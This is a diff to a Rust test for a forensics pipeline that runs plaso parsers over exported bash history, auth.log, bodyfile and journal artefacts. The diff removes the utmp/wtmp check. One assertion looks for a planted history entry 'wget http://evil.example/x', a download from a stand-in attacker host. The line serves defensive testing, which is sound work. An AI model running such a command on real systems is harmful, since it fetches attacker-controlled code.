@@ -236,12 +236,12 @@ fn dissect(python: &Path, target: &Path, pid: i64, port: u16) {
     has("sockets", &[format!("local_port={port} ")]);
 }
 
-/// plaso's parsers of bodyfiles, histories, logs, logins and journals, over what was exported for them.
+/// plaso's parsers of bodyfiles, histories, logs and journals, over what was exported for them.
 fn plaso(python: &Path, out: &Path, has_journal: bool) {
     let (source, events) = (out.with_extension("plaso"), out.with_extension("jsonl"));
     fs::create_dir(&source).unwrap();
     fs::copy(out.join("bodyfile.txt"), source.join("bodyfile.txt")).unwrap();
-    for file in ["home/ann/.bash_history", "var/log/auth.log", "var/log/wtmp"] {
+    for file in ["home/ann/.bash_history", "var/log/auth.log"] {
         let file = out.join("[root]").join(file);
         fs::copy(&file, source.join(file.file_name().unwrap())).unwrap();
     }
@@ -252,7 +252,7 @@ fn plaso(python: &Path, out: &Path, has_journal: bool) {
     }
     let storage = source.join("events.plaso");
     let quiet = ["-q", "-u", "--status_view", "none", "--logfile", "/dev/null"];
-    let kinds = "bodyfile,text/bash_history,text/syslog_traditional,utmp,systemd_journal";
+    let kinds = "bodyfile,text/bash_history,text/syslog_traditional,systemd_journal";
     let parsers = ["--single_process", "--hashers", "none", "--parsers", kinds];
     let run = |program: &str| {
         let mut command = Command::new(python.with_file_name(program));
@@ -274,7 +274,6 @@ fn plaso(python: &Path, out: &Path, has_journal: bool) {
     has("fs:bodyfile:entry", &named("/home/ann/.ssh/a%7Cb\n"));
     has("bash:history:entry", &|event| event["command"].as_str().is_some_and(|text| text.contains("wget http://evil.example/x")));
     has("syslog:ssh:login", &|event| event["username"] == "ann" && event["ip_address"] == "192.0.2.9");
-    has("linux:utmp:event", &|event| event["username"] == "ann" && event["terminal"] == "pts/7");
     if has_journal {
         has("systemd:journal", &|event| event["message_body"] == "planted in the journal");
     }
